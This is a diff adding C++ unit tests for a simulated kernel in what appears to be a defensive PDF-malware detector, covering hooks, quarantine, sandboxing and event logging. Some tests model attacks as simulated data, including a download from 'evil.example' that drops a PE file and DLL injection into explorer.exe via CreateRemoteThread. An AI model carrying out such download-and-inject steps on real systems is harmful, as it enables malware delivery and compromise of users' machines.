@@ -1,0 +1,245 @@
+// Tests for the simulated kernel: processes, file system, network, API
+// dispatch, hook semantics (observe/veto), AppInit injection, sandboxing.
+#include <gtest/gtest.h>
+
+#include "support/error.hpp"
+#include "sys/kernel.hpp"
+
+namespace sy = pdfshield::sys;
+namespace sp = pdfshield::support;
+
+TEST(Vfs, WriteReadRemove) {
+  sy::VirtualFileSystem fs;
+  fs.write("a.txt", sp::to_bytes("hello"));
+  EXPECT_TRUE(fs.exists("a.txt"));
+  ASSERT_NE(fs.read("a.txt"), nullptr);
+  EXPECT_EQ(sp::to_string(*fs.read("a.txt")), "hello");
+  EXPECT_TRUE(fs.remove("a.txt"));
+  EXPECT_FALSE(fs.exists("a.txt"));
+  EXPECT_EQ(fs.read("missing"), nullptr);
+}
+
+TEST(Vfs, QuarantineMovesFile) {
+  sy::VirtualFileSystem fs;
+  fs.write("evil.exe", sp::to_bytes("MZ"));
+  const std::string dest = fs.quarantine("evil.exe");
+  EXPECT_FALSE(fs.exists("evil.exe"));
+  EXPECT_TRUE(fs.exists(dest));
+  EXPECT_TRUE(sy::VirtualFileSystem::is_quarantined(dest));
+  EXPECT_EQ(fs.quarantine("missing"), "");
+}
+
+TEST(Kernel, CreatesProcessesWithDistinctPids) {
+  sy::Kernel k;
+  auto& a = k.create_process("AcroRd32.exe");
+  auto& b = k.create_process("notepad.exe");
+  EXPECT_NE(a.pid(), b.pid());
+  EXPECT_EQ(k.process(a.pid())->image(), "AcroRd32.exe");
+  EXPECT_EQ(k.process(99999), nullptr);
+}
+
+TEST(Kernel, MemoryAccounting) {
+  sy::Kernel k;
+  auto& p = k.create_process("AcroRd32.exe");
+  p.alloc(100);
+  p.alloc(50);
+  EXPECT_EQ(p.memory_bytes(), 150u);
+  p.free(60);
+  EXPECT_EQ(p.memory_bytes(), 90u);
+  p.free(1000);  // clamps at zero
+  EXPECT_EQ(p.memory_bytes(), 0u);
+}
+
+TEST(Kernel, AppInitRunsOnEveryNewProcess) {
+  sy::Kernel k;
+  std::vector<std::string> seen;
+  k.set_appinit([&](sy::Process& p) { seen.push_back(p.image()); });
+  k.create_process("AcroRd32.exe");
+  k.create_process("calc.exe");
+  EXPECT_EQ(seen, (std::vector<std::string>{"AcroRd32.exe", "calc.exe"}));
+}
+
+TEST(Kernel, TrampolineStyleSelectiveHooking) {
+  // The paper's trampoline DLL: install hooks only in PDF readers.
+  sy::Kernel k;
+  k.set_appinit([&](sy::Process& p) {
+    if (p.image() == "AcroRd32.exe") {
+      k.install_hook(p.pid(), "NtCreateFile",
+                     [](const sy::ApiEvent&) { return sy::ApiOutcome::kAllow; });
+    }
+  });
+  auto& reader = k.create_process("AcroRd32.exe");
+  auto& other = k.create_process("winword.exe");
+  EXPECT_TRUE(k.has_hooks(reader.pid()));
+  EXPECT_FALSE(k.has_hooks(other.pid()));
+}
+
+TEST(Kernel, NtCreateFileWritesFile) {
+  sy::Kernel k;
+  auto& p = k.create_process("AcroRd32.exe");
+  auto r = k.call_api(p.pid(), "NtCreateFile", {"c:/tmp/drop.exe", "MZ90"});
+  EXPECT_TRUE(r.allowed);
+  EXPECT_TRUE(r.succeeded);
+  EXPECT_TRUE(k.fs().exists("c:/tmp/drop.exe"));
+}
+
+TEST(Kernel, UrlDownloadRecordsNetworkAndDropsPe) {
+  sy::Kernel k;
+  auto& p = k.create_process("AcroRd32.exe");
+  auto r = k.call_api(p.pid(), "URLDownloadToFile",
+                      {"http://evil.example/mal.exe", "c:/mal.exe"});
+  EXPECT_TRUE(r.succeeded);
+  ASSERT_EQ(k.net().log().size(), 1u);
+  EXPECT_EQ(k.net().log()[0].host, "http://evil.example/mal.exe");
+  const auto* data = k.fs().read("c:/mal.exe");
+  ASSERT_NE(data, nullptr);
+  EXPECT_EQ(sp::to_string(*data).substr(0, 2), "MZ");
+}
+
+TEST(Kernel, ProcessCreationApiSpawnsChild) {
+  sy::Kernel k;
+  auto& p = k.create_process("AcroRd32.exe");
+  auto r = k.call_api(p.pid(), "NtCreateProcess", {"c:/mal.exe"});
+  ASSERT_TRUE(r.succeeded);
+  const int child_pid = std::atoi(r.value.c_str());
+  ASSERT_NE(k.process(child_pid), nullptr);
+  EXPECT_EQ(k.process(child_pid)->image(), "c:/mal.exe");
+}
+
+TEST(Kernel, DllInjectionTargetsOtherProcess) {
+  sy::Kernel k;
+  auto& attacker = k.create_process("AcroRd32.exe");
+  auto& victim = k.create_process("explorer.exe");
+  auto r = k.call_api(attacker.pid(), "CreateRemoteThread",
+                      {std::to_string(victim.pid()), "evil.dll"});
+  EXPECT_TRUE(r.succeeded);
+  ASSERT_EQ(victim.injected_dlls().size(), 1u);
+  EXPECT_EQ(victim.injected_dlls()[0], "evil.dll");
+}
+
+TEST(Kernel, HooksObserveArgsAndMemory) {
+  sy::Kernel k;
+  auto& p = k.create_process("AcroRd32.exe");
+  p.alloc(1234);
+  sy::ApiEvent captured;
+  k.install_hook(p.pid(), "connect", [&](const sy::ApiEvent& e) {
+    captured = e;
+    return sy::ApiOutcome::kAllow;
+  });
+  k.call_api(p.pid(), "connect", {"10.0.0.1", "443"});
+  EXPECT_EQ(captured.api, "connect");
+  ASSERT_EQ(captured.args.size(), 2u);
+  EXPECT_EQ(captured.args[0], "10.0.0.1");
+  EXPECT_EQ(captured.memory_bytes, 1234u);
+}
+
+TEST(Kernel, BlockingHookPreventsNativeEffect) {
+  sy::Kernel k;
+  auto& p = k.create_process("AcroRd32.exe");
+  k.install_hook(p.pid(), "CreateRemoteThread",
+                 [](const sy::ApiEvent&) { return sy::ApiOutcome::kBlock; });
+  auto& victim = k.create_process("explorer.exe");
+  auto r = k.call_api(p.pid(), "CreateRemoteThread",
+                      {std::to_string(victim.pid()), "evil.dll"});
+  EXPECT_FALSE(r.allowed);
+  EXPECT_TRUE(victim.injected_dlls().empty());
+}
+
+TEST(Kernel, HooksOnlyApplyToTheirProcess) {
+  sy::Kernel k;
+  auto& hooked = k.create_process("AcroRd32.exe");
+  auto& freep = k.create_process("AcroRd32.exe");
+  int pre_fired = 0;
+  k.install_hook(hooked.pid(), "listen", [&](const sy::ApiEvent& e) {
+    if (!e.post) ++pre_fired;
+    return sy::ApiOutcome::kAllow;
+  });
+  k.call_api(freep.pid(), "listen", {"8080"});
+  EXPECT_EQ(pre_fired, 0);
+  k.call_api(hooked.pid(), "listen", {"8080"});
+  EXPECT_EQ(pre_fired, 1);
+}
+
+TEST(Kernel, HooksWrapNativeCallWithPrePostPhases) {
+  sy::Kernel k;
+  auto& p = k.create_process("AcroRd32.exe");
+  std::vector<std::string> phases;
+  k.install_hook(p.pid(), "NtCreateFile", [&](const sy::ApiEvent& e) {
+    if (e.post) {
+      // Post phase: the native effect is visible.
+      phases.push_back(k.fs().exists("x.txt") ? "post-exists" : "post-missing");
+    } else {
+      phases.push_back(k.fs().exists("x.txt") ? "pre-exists" : "pre-missing");
+    }
+    return sy::ApiOutcome::kAllow;
+  });
+  k.call_api(p.pid(), "NtCreateFile", {"x.txt", "data"});
+  EXPECT_EQ(phases, (std::vector<std::string>{"pre-missing", "post-exists"}));
+}
+
+TEST(Kernel, BlockedCallSkipsPostPhase) {
+  sy::Kernel k;
+  auto& p = k.create_process("AcroRd32.exe");
+  int post_count = 0;
+  k.install_hook(p.pid(), "NtCreateFile", [&](const sy::ApiEvent& e) {
+    if (e.post) ++post_count;
+    return sy::ApiOutcome::kBlock;
+  });
+  k.call_api(p.pid(), "NtCreateFile", {"y.txt", "data"});
+  EXPECT_EQ(post_count, 0);
+  EXPECT_FALSE(k.fs().exists("y.txt"));
+}
+
+TEST(Kernel, SandboxedProcessWritesAreJailed) {
+  sy::Kernel k;
+  auto& jailed = k.create_process("c:/mal.exe", /*sandboxed=*/true);
+  k.call_api(jailed.pid(), "NtCreateFile", {"c:/windows/system32/bad.dll", "x"});
+  EXPECT_FALSE(k.fs().exists("c:/windows/system32/bad.dll"));
+  EXPECT_TRUE(k.fs().exists("sandbox://c:/windows/system32/bad.dll"));
+}
+
+TEST(Kernel, SandboxIsInheritedByChildren) {
+  sy::Kernel k;
+  auto& jailed = k.create_process("c:/mal.exe", /*sandboxed=*/true);
+  auto r = k.call_api(jailed.pid(), "NtCreateProcess", {"c:/child.exe"});
+  const int child = std::atoi(r.value.c_str());
+  EXPECT_TRUE(k.process(child)->sandboxed());
+}
+
+TEST(Kernel, EggHuntApisAreObservableNoOps) {
+  sy::Kernel k;
+  auto& p = k.create_process("AcroRd32.exe");
+  for (const char* api : {"NtAccessCheckAndAuditAlarm", "IsBadReadPtr",
+                          "NtDisplayString", "NtAddAtom"}) {
+    EXPECT_TRUE(k.call_api(p.pid(), api, {}).succeeded) << api;
+  }
+  EXPECT_EQ(k.event_log().size(), 4u);
+}
+
+TEST(Kernel, UnknownApiOrPidThrows) {
+  sy::Kernel k;
+  auto& p = k.create_process("AcroRd32.exe");
+  EXPECT_THROW(k.call_api(p.pid(), "TotallyFakeApi", {}), sp::SysError);
+  EXPECT_THROW(k.call_api(424242, "connect", {}), sp::SysError);
+  EXPECT_THROW(k.install_hook(424242, "connect",
+                              [](const sy::ApiEvent&) { return sy::ApiOutcome::kAllow; }),
+               sp::SysError);
+}
+
+TEST(Kernel, TerminateMarksProcess) {
+  sy::Kernel k;
+  auto& p = k.create_process("c:/mal.exe");
+  EXPECT_FALSE(p.terminated());
+  k.terminate(p.pid());
+  EXPECT_TRUE(p.terminated());
+}
+
+TEST(Kernel, EventLogRecordsEverything) {
+  sy::Kernel k;
+  auto& p = k.create_process("AcroRd32.exe");
+  k.call_api(p.pid(), "connect", {"a", "1"});
+  k.call_api(p.pid(), "listen", {"2"});
+  ASSERT_EQ(k.event_log().size(), 2u);
+  EXPECT_EQ(k.event_log()[0].api, "connect");
+  EXPECT_EQ(k.event_log()[1].api, "listen");
+}
